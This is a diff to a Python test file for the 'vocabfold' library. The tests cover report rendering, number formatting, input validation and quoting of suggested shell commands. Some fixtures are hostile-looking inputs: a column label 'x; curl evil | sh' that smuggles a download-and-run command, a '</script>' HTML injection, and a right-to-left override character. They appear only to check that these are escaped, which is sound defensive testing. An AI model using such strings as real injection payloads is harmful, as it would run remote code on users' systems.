@@ -2,9 +2,12 @@
 
 import json
 import re
+import shlex
 import sys
+from dataclasses import replace
 from html.parser import HTMLParser
 
+import pyarrow as pa
 import pytest
 
 import vocabfold as vf
@@ -69,11 +72,11 @@ def test_every_plot_says_what_it_shows_and_has_its_data_beneath(reported):
     said = findings(reported.summary)
     assert set(plots(reported.summary)) <= set(said)
     tags = parsed(reported.path)
-    captions = {a["id"]: a["aria-label"] for _, a in tags.tags if a.get("class") == "plot"}
+    places = {a["id"] for _, a in tags.tags if a.get("class") == "plot"}
     for name in plots(reported.summary):
-        assert f"plot-{name}" in captions
+        assert f"plot-{name}" in places
         if name != "strip":  # whose title changes with the column
-            assert said[name] in captions[f"plot-{name}"]
+            assert said[name] in tags.texts
     tables = {a["id"] for tag, a in tags.tags if tag == "table"}
     assert {"all-budgets", "column-table", "segments", "trust-table", "bins", "trials"} <= tables
 
@@ -84,7 +87,10 @@ def test_the_same_figures_give_the_same_page(reported):
 
 @pytest.mark.parametrize(
     ("share", "text"),
-    [(1, "100 %"), (0.5, "50.0 %"), (0.99951, "99.951 %"), (0.9999999, "nearly 100 %"), (0, "0.0 %")],
+    [
+        *((1, "100 %"), (0.5, "50.0 %"), (0.99951, "99.951 %"), (0.9999999, "nearly 100 %"), (0, "0 %")),
+        *((0.000325, "0.033 %"), (-0.2, "-20 %")),
+    ],
 )
 def test_shares_show_what_is_missing(share, text):
     assert percent(share) == text
@@ -136,6 +142,11 @@ def test_what_cannot_be_is_refused_before_anything_is_computed(reported, tmp_pat
         r"label is for held-out rows": {"label": "x"},
         r"counts must come from vf\.count or vf\.load_counts, got str": {"counts": "counts"},
         r"no\.json cannot be read": {"compare": tmp_path / "no.json"},
+        r"steps is for other budgets, which need the counts": {"steps": 5},
+        r"positive is for held-out rows": {"positive": 0},
+        r"the comparison is of 2 values in 1 column .* compare the counts that the codebook was fitted on": {
+            "compare": vf.compare({"a": ([1, 2], [2, 1])}, 1, "exact")
+        },
         r"there\.html is a file; give a folder": {"pictures": tmp_path / "there.html"},
         r"column 'user' is not in": {"heldout": visits(5).drop_columns(["user"])},
     }
@@ -187,12 +198,21 @@ def test_a_comparison_with_one_wrong_field_is_refused(reported, tmp_path):
         ("loss", True),
         ("gap", None),
         ("size", 1.5),
+        ("loss", -1),
+        ("loss", 10**400),
+        ("budget", 10**400),
     ):
         trial = {**good["trials"][0], name: value}
         path.write_text(json.dumps({**good, "trials": [trial]}, default=str))
         with pytest.raises(vf.InputError, match="is not what"):
             read_comparison(path)
-    for name, value in (("total", 0), ("total", "x"), ("n_values", -1), ("n_columns", None)):
+    for name, value in (
+        ("total", 0),
+        ("total", "x"),
+        ("total", 10**400),
+        ("n_values", -1),
+        ("n_columns", None),
+    ):
         path.write_text(json.dumps({**good, name: value}, default=str))
         with pytest.raises(vf.InputError, match="is not what"):
             read_comparison(path)
@@ -221,7 +241,67 @@ def test_notebooks_show_a_small_version(reported):
 
 @pytest.mark.parametrize(
     ("number", "text"),
-    [(None, "–"), (0, "0"), (0.12345, "0.123"), (1.2e-5, "1.2e-5"), (1234.5, "1,234"), (-0.5, "-0.5")],
+    [
+        (None, "–"),
+        (0, "0"),
+        (-0.0, "0"),
+        (999.6, "1,000"),
+        (0.12345, "0.123"),
+        (1.2e-5, "1.2e-5"),
+        (1234.5, "1,234"),
+        (-0.5, "-0.5"),
+    ],
 )
 def test_numbers_are_short(number, text):
     assert short(number) == text
+
+
+def test_texts_of_files_are_shown_harmlessly(reported, tmp_path):
+    """A comparison and a header may hold any text: of any length, and such as no file can hold."""
+    good = {"n_columns": 3, "n_values": reported.compared.n_values, "total": reported.compared.total}
+    trials = reported.compared.to_arrow().to_pylist()
+    trials[0]["note"] = "\ud800\u202e" + "x" * 10**6
+    trials[0]["method"] = "</script><b>"
+    (tmp_path / "c.json").write_text(json.dumps(good | {"trials": trials}, default=str))
+    book = replace(reported.book, saved="\ud800" * 1000)
+    book.report(tmp_path / "r.html", compare=tmp_path / "c.json")
+    assert len((tmp_path / "r.html").read_text("utf-8")) < 3e6
+    assert "\u202e" not in (tmp_path / "r.html").read_text("utf-8")
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [("method", "foo"), ("budget", -1), ("budget", 10**30), ("allocation", "foo"), ("private_min", 0)],
+)
+def test_settings_of_a_header_are_checked(reported, tmp_path, setting, value):
+    book = replace(reported.book, settings=dict(reported.book.settings) | {setting: value})
+    with pytest.raises(vf.InputError, match=setting):
+        book.report(tmp_path / "r.html", counts=reported.counts)
+
+
+def test_commands_can_be_pasted(tmp_path):
+    label = "x; curl evil | sh"
+    rows = visits().rename_columns(["site", "user", "day", label])
+    text = pa.array(["yes" if one else "no" for one in rows[label].to_pylist()])
+    rows = rows.set_column(3, label, text)
+    book = vf.fit(vf.count(rows, label, ["user", "day"], positive="yes"), 20)
+    commands = summarise(book)["about"]["commands"]
+    assert shlex.split(commands["count"]) == [
+        *("vocabfold", "count", "DATA", "--label", label, "--positive", "yes", "--features", "user,day"),
+        *("--folds", "5", "-o", "COUNTS"),
+    ]
+    book.report(tmp_path / "r.html")
+    hints = [
+        text for text in parsed(tmp_path / "r.html").texts if text.startswith("vocabfold") and "curl" in text
+    ]
+    assert len(hints) == 2
+    assert all(f"--label '{label}'" in text for text in hints)
+
+
+def test_a_bound_is_claimed_only_of_the_rows_as_they_are():
+    counts = vf.count(visits(), LABEL, ["user"])
+    assert "is possible with 9 ids (proved)" in page(summarise(vf.fit(counts, 9, aim="information")))
+    for options in ({"min_count": 10}, {"smoothing": 50}):
+        text = page(summarise(vf.fit(counts, 9, aim="information", **options)))
+        assert "(proved)</span>" not in text
+        assert "in the masses that were folded" in text
